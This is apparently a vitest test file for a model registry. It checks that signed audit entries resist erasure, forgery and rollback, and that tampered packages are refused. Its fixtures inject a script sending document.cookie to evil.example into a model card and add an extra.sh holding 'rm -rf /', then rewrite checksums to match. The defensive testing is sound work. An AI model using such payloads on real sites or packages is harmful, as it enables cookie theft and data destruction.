import { cp, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { entryHash } from '../../../src/main/core/registry/audit-log.js';
import { FolderRegistry } from '../../../src/main/core/registry/folder-registry.js';
import { FolderStore } from '../../../src/main/core/registry/folder-store.js';
import { formatSums, parseSums, sha256 } from '../../../src/main/core/registry/hash.js';
import { defaultKeyDir, loadOrCreateKey, signEntryHash } from '../../../src/main/core/registry/keys.js';
import { openRegistry } from '../../../src/main/core/registry/open-registry.js';
import type { VerifyReport } from '../../../src/main/core/registry/registry-types.js';
import { cli, expectFetchRefused, tempDir, writeRun } from './helpers.js';

const newRegistry = async () => {
  const root = await tempDir();
  const reg = join(root, 'registry');
  await FolderStore.open(reg, { create: true, config: { allowAs: true, fsync: false } });
  const run = await writeRun(join(root, 'ws'), 'run-1');
  const as = (user: string) => openRegistry(reg, { as: user });
  return { root, reg, run, as };
};

const verifyCli = async (reg: string): Promise<{ code: number | null; report: VerifyReport }> => {
  const result = await cli(['registry', 'verify', '--registry', reg, '--json']);
  return { code: result.code, report: result.json as unknown as VerifyReport };
};

const auditLines = async (reg: string) => (await readFile(join(reg, 'audit.jsonl'), 'utf8')).trimEnd().split('\n');

describe('decisions cannot be erased or forged', () => {
  it('every entry is signed by its actor with a key registered in the registry; the private key stays outside', async () => {
    const { reg, run, as } = await newRegistry();
    await (await as('alice')).publish({ runDir: run, name: 'fan' });
    await (await as('bob')).govern('approve', { name: 'fan', version: 1, reason: 'checked' });
    const entries = (await auditLines(reg)).map((l) => JSON.parse(l) as Record<string, string>);
    expect(entries.map((e) => [e.actor, e.signer])).toEqual([
      ['alice', 'alice'],
      ['bob', 'bob'],
    ]);
    const bobKey = JSON.parse(await readFile(join(reg, 'keys', 'bob.pub'), 'utf8')) as Record<string, string>;
    expect(entries[1]?.key).toBe(bobKey.keyId);
    expect(await readFile(join(defaultKeyDir(), 'bob.ed25519.pem'), 'utf8')).toMatch(/BEGIN PRIVATE KEY/);
    const head = JSON.parse(await readFile(join(reg, 'audit.head'), 'utf8')) as Record<string, unknown>;
    expect(head).toMatchObject({ seq: 2, action: 'approve', by: 'bob', signer: 'bob', sig: entries[1]?.sig });
    const manifest = JSON.parse(await readFile(join(reg, 'models', 'fan', '1', 'manifest.json'), 'utf8')) as {
      checkpoint: unknown;
    };
    expect(manifest.checkpoint).toMatchObject({ seq: 2, action: 'approve', signer: 'bob' });
    const { code, report } = await verifyCli(reg);
    expect(code).toBe(0);
    expect(report.notes ?? []).toEqual([]);
  });

  it('erase: the newest entry (a reject) and audit.head deleted, then approve: refused, and verify says what was removed', async () => {
    const { reg, run, as } = await newRegistry();
    await (await as('alice')).publish({ runDir: run, name: 'fan' });
    await (await as('bob')).govern('reject', { name: 'fan', version: 1, reason: 'drifts on unit 7' });
    const lines = await auditLines(reg);
    await writeFile(join(reg, 'audit.jsonl'), `${lines.slice(0, -1).join('\n')}\n`);
    await rm(join(reg, 'audit.head'));
    await expect((await as('carol')).govern('approve', { name: 'fan', version: 1, reason: 'ok' })).rejects.toThrow(
      /audit entry seq 2 was removed from the end of the log: models\/fan\/1\/manifest.json holds the checkpoint of seq 2 \(reject by bob, signed by bob\)/,
    );
    // A head rewritten to the shortened log (from entry 1's own signature) does not help either.
    const first = JSON.parse(lines[0] as string) as Record<string, string>;
    await writeFile(
      join(reg, 'audit.head'),
      JSON.stringify({
        seq: 1,
        hash: first.hash,
        action: 'publish',
        by: 'alice',
        signer: 'alice',
        key: first.key,
        sig: first.sig,
      }),
    );
    await expect((await as('carol')).govern('approve', { name: 'fan', version: 1, reason: 'ok' })).rejects.toThrow(
      /seq 2 was removed/,
    );
    const { code, report } = await verifyCli(reg);
    expect(code).toBe(1);
    expect(report.problems.map((p) => p.message)).toContainEqual(
      expect.stringMatching(/audit entry seq 2 was removed from the end of the log: .*reject by bob/),
    );
    expect(await auditLines(reg)).toHaveLength(1);
  });

  it('forge: an appended approve with a correct prev and hash is refused by the next write and reported by verify', async () => {
    const { reg, run, as } = await newRegistry();
    const alice = await as('alice');
    await alice.publish({ runDir: run, name: 'fan' });
    await (await as('bob')).govern('reject', { name: 'fan', version: 1, reason: 'not yet' });
    await alice.publish({ runDir: run, name: 'fan' });
    const lines = await auditLines(reg);
    const last = JSON.parse(lines.at(-1) as string) as { seq: number; hash: string };
    // Unsigned, as the old tools wrote entries.
    const unsigned: Record<string, unknown> = {
      seq: last.seq + 1,
      time: new Date().toISOString(),
      actor: 'bob',
      action: 'approve',
      model: 'fan',
      version: 2,
      reason: 'looks fine',
      prev: last.hash,
    };
    unsigned.hash = entryHash(unsigned as never);
    await writeFile(join(reg, 'audit.jsonl'), `${[...lines, JSON.stringify(unsigned)].join('\n')}\n`);
    await expect(alice.publish({ runDir: run, name: 'other' })).rejects.toThrow(
      /audit entry seq 4 \(approve fan v2 by bob\) is not signed although the entries before it are: forged/,
    );
    await expect((await as('carol')).govern('promote', { name: 'fan', version: 2 })).rejects.toThrow(/forged/);
    let { code, report } = await verifyCli(reg);
    expect(code).toBe(1);
    expect(report.problems[0]?.message).toMatch(/seq 4 \(approve fan v2 by bob\) is not signed .*forged/);

    // Signed with the forger's own key, under bob's name or her own as signer: neither verifies as bob.
    const aliceKey = await loadOrCreateKey(defaultKeyDir(), 'alice');
    const bobKeyId = (JSON.parse(await readFile(join(reg, 'keys', 'bob.pub'), 'utf8')) as { keyId: string }).keyId;
    for (const [signer, key] of [
      ['bob', bobKeyId],
      ['alice', aliceKey.keyId],
    ] as const) {
      const forged: Record<string, unknown> = { ...unsigned, signer, key };
      delete forged.hash;
      forged.hash = entryHash(forged as never);
      forged.sig = signEntryHash(aliceKey, forged.hash as string);
      await writeFile(join(reg, 'audit.jsonl'), `${[...lines, JSON.stringify(forged)].join('\n')}\n`);
      await expect((await as('carol')).govern('promote', { name: 'fan', version: 2 })).rejects.toThrow(/forged/);
      ({ code, report } = await verifyCli(reg));
      expect(code).toBe(1);
      expect(report.problems[0]?.message).toMatch(
        signer === 'bob'
          ? /seq 4 \(approve fan v2 by bob\) carries a signature that does not verify with bob's key: forged/
          : /seq 4 \(approve fan v2 by bob\) is signed by alice, not by bob .*forged/,
      );
    }
  });

  it('nobody can sign as another person from their own computer: a different key for a registered name is refused', async () => {
    const { root, reg, run, as } = await newRegistry();
    await (await as('bob')).publish({ runDir: run, name: 'fan' });
    const otherKeys = join(root, 'mallory-keys');
    const store = await FolderStore.open(reg, { keyDir: otherKeys });
    await expect(new FolderRegistry(store, 'bob').govern('archive', { name: 'fan', version: 1 })).rejects.toThrow(
      /the registry has a different signing key for bob/,
    );
    // A key folder inside the registry is refused outright.
    const inside = await FolderStore.open(reg, { keyDir: join(reg, 'keys-here') });
    await expect(new FolderRegistry(inside, 'carol').govern('archive', { name: 'fan', version: 1 })).rejects.toThrow(
      /inside the registry/,
    );
  });

  it('an older registry with unsigned entries stays readable: verify notes them as unsigned (legacy); new entries are signed', async () => {
    const { reg, run, as } = await newRegistry();
    await (await as('alice')).publish({ runDir: run, name: 'fan' });
    // Rewrite the log as the previous version of the tools wrote it: no signer, key or sig.
    const [line] = await auditLines(reg);
    const entry = JSON.parse(line as string) as Record<string, unknown>;
    delete entry.signer;
    delete entry.key;
    delete entry.sig;
    entry.hash = entryHash(entry as never);
    await writeFile(join(reg, 'audit.jsonl'), `${JSON.stringify(entry)}\n`);
    await writeFile(join(reg, 'audit.head'), `${JSON.stringify({ seq: 1, hash: entry.hash })}\n`);
    const manifestPath = join(reg, 'models', 'fan', '1', 'manifest.json');
    const manifest = JSON.parse(await readFile(manifestPath, 'utf8')) as Record<string, unknown>;
    delete manifest.checkpoint;
    const text = `${JSON.stringify(manifest, null, 2)}\n`;
    await writeFile(manifestPath, text);
    const sumsPath = join(reg, 'models', 'fan', '1', 'SHA256SUMS');
    const sums = parseSums(await readFile(sumsPath, 'utf8'));
    sums.set('manifest.json', sha256(text));
    await writeFile(sumsPath, formatSums(sums));
    let { code, report } = await verifyCli(reg);
    expect(code).toBe(0);
    expect(report.notes).toEqual([expect.stringMatching(/^1 audit entry is unsigned \(legacy\)/)]);
    await (await as('bob')).govern('approve', { name: 'fan', version: 1, reason: 'fine' });
    ({ code, report } = await verifyCli(reg));
    expect(code).toBe(0);
    expect(report.notes).toEqual([expect.stringMatching(/^1 audit entry is unsigned \(legacy\)/)]);
    expect(JSON.parse((await auditLines(reg))[1] as string)).toMatchObject({ actor: 'bob', signer: 'bob' });
  });
});

describe('a complete rollback of the folder', () => {
  it('is invisible to verify, but each person who saw the later log is refused, in words', async () => {
    const { root, reg, run, as } = await newRegistry();
    const alice = await as('alice');
    await alice.publish({ runDir: run, name: 'fan' });
    const snapshot = join(root, 'snapshot');
    await cp(reg, snapshot, { recursive: true });
    await (await as('bob')).govern('reject', { name: 'fan', version: 1, reason: 'bad on unit 7' });
    // Someone with write access puts the whole earlier state back: log, head, manifests, all consistent.
    await rm(reg, { recursive: true });
    await cp(snapshot, reg, { recursive: true });
    expect((await verifyCli(reg)).code).toBe(0);
    await expect((await as('bob')).govern('archive', { name: 'fan', version: 1 })).rejects.toThrow(
      /the registry's audit log was rolled back or rewritten: on .* bob saw entry seq 2 \(reject by bob\), and the log now ends at seq 1/,
    );
  });
});

describe('loading a version checks everything verify checks', () => {
  const forgeCard = async (reg: string) => {
    const dir = join(reg, 'models', 'fan', '1');
    const card = (await readFile(join(dir, 'model-card.html'), 'utf8')).replace(
      '</body>',
      '<script>fetch("https://evil.example/"+document.cookie)</script></body>',
    );
    await writeFile(join(dir, 'model-card.html'), card);
    const sums = parseSums(await readFile(join(dir, 'SHA256SUMS'), 'utf8'));
    sums.set('model-card.html', sha256(card));
    await writeFile(join(dir, 'SHA256SUMS'), formatSums(sums));
  };

  it('a forged model card with a <script>, SHA256SUMS rewritten to match: verify names it, fetch and show refuse it', async () => {
    const { root, reg, run, as } = await newRegistry();
    await (await as('alice')).publish({ runDir: run, name: 'fan' });
    await forgeCard(reg);
    const { report } = await verifyCli(reg);
    expect(report.problems).toEqual([
      expect.objectContaining({
        file: 'model-card.html',
        message: expect.stringMatching(/fan version 1: model-card.html is not the card the registry renders/),
      }),
    ]);
    await expectFetchRefused({ registry: reg, name: 'fan', version: 1, out: join(root, 'out') }, 'model-card.html');
    await expect((await as('carol')).show('fan', 1)).rejects.toThrow(/model-card.html/);
  });

  it('an edited stage in manifest.json, or an added file listed in SHA256SUMS, is refused by fetch', async () => {
    const { root, reg, run, as } = await newRegistry();
    await (await as('alice')).publish({ runDir: run, name: 'fan' });
    const dir = join(reg, 'models', 'fan', '1');
    const original = await readFile(join(dir, 'SHA256SUMS'), 'utf8');
    await writeFile(join(dir, 'extra.sh'), 'rm -rf /\n');
    const sums = parseSums(original);
    sums.set('extra.sh', sha256('rm -rf /\n'));
    await writeFile(join(dir, 'SHA256SUMS'), formatSums(sums));
    const out = join(root, 'out');
    await expectFetchRefused(
      { registry: reg, name: 'fan', version: 1, out },
      /extra.sh was not part of the published package/,
    );
    await rm(join(dir, 'extra.sh'));
    const manifestText = (await readFile(join(dir, 'manifest.json'), 'utf8')).replace(
      '"stage": "candidate"',
      '"stage": "production"',
    );
    await writeFile(join(dir, 'manifest.json'), manifestText);
    const again = parseSums(original);
    again.set('manifest.json', sha256(manifestText));
    await writeFile(join(dir, 'SHA256SUMS'), formatSums(again));
    await expectFetchRefused(
      { registry: reg, name: 'fan', version: 1, out },
      /manifest.json says stage production, the audit log says candidate/,
    );
  });

  it('viewing one version checks only that version, and caches the result by name, version and SHA256SUMS', async () => {
    const { root, reg, run, as } = await newRegistry();
    const alice = await as('alice');
    await alice.publish({ runDir: run, name: 'fan' });
    await alice.publish({ runDir: run, name: 'fan' });
    const v2weights = join(reg, 'models', 'fan', '2', 'weights.bin');
    const bytes = await readFile(v2weights);
    bytes[3] = (bytes[3] ?? 0) ^ 0xff;
    await writeFile(v2weights, bytes);
    const viewer = (await as('carol')) as FolderRegistry;
    expect((await viewer.verifyVersion('fan', 1)).ok).toBe(true);
    const v2 = await viewer.verifyVersion('fan', 2);
    expect(v2.problems.map((p) => p.message)).toEqual([
      expect.stringMatching(/fan version 2: weights.bin does not match SHA256SUMS/),
    ]);
    // Cached: a flipped byte under an unchanged SHA256SUMS is not re-hashed by a view...
    const v1weights = join(reg, 'models', 'fan', '1', 'weights.bin');
    const v1bytes = await readFile(v1weights);
    v1bytes[3] = (v1bytes[3] ?? 0) ^ 0xff;
    await writeFile(v1weights, v1bytes);
    expect((await viewer.verifyVersion('fan', 1)).ok).toBe(true);
    // ...but a fetch hashes every byte it copies, and a changed SHA256SUMS is checked again.
    await expect(viewer.fetch('fan', 1, join(root, 'out'))).rejects.toThrow(/weights.bin does not match SHA256SUMS/);
    const sumsPath = join(reg, 'models', 'fan', '1', 'SHA256SUMS');
    const sums = parseSums(await readFile(sumsPath, 'utf8'));
    sums.set('weights.bin', sha256(v1bytes));
    await writeFile(sumsPath, formatSums(sums));
    expect((await viewer.verifyVersion('fan', 1)).problems[0]?.message).toMatch(
      /weights.bin in SHA256SUMS differs from the hash recorded when it was published/,
    );
  });
});

describe('idempotent publishes on a folder registry', () => {
  it('the CLI publish repeated with the same --idempotency-key returns the version it made', async () => {
    const { reg, run } = await newRegistry();
    const publish = (key: string) =>
      cli([
        'publish',
        '--run-dir',
        run,
        '--registry',
        reg,
        '--name',
        'fan',
        '--as',
        'alice',
        '--idempotency-key',
        key,
        '--json',
      ]);
    expect((await publish('first-try-1')).json).toEqual({ name: 'fan', version: 1 });
    expect((await publish('first-try-1')).json).toEqual({ name: 'fan', version: 1 });
    expect((await publish('second-try')).json).toEqual({ name: 'fan', version: 2 });
    expect(await auditLines(reg)).toHaveLength(2);
  });
});
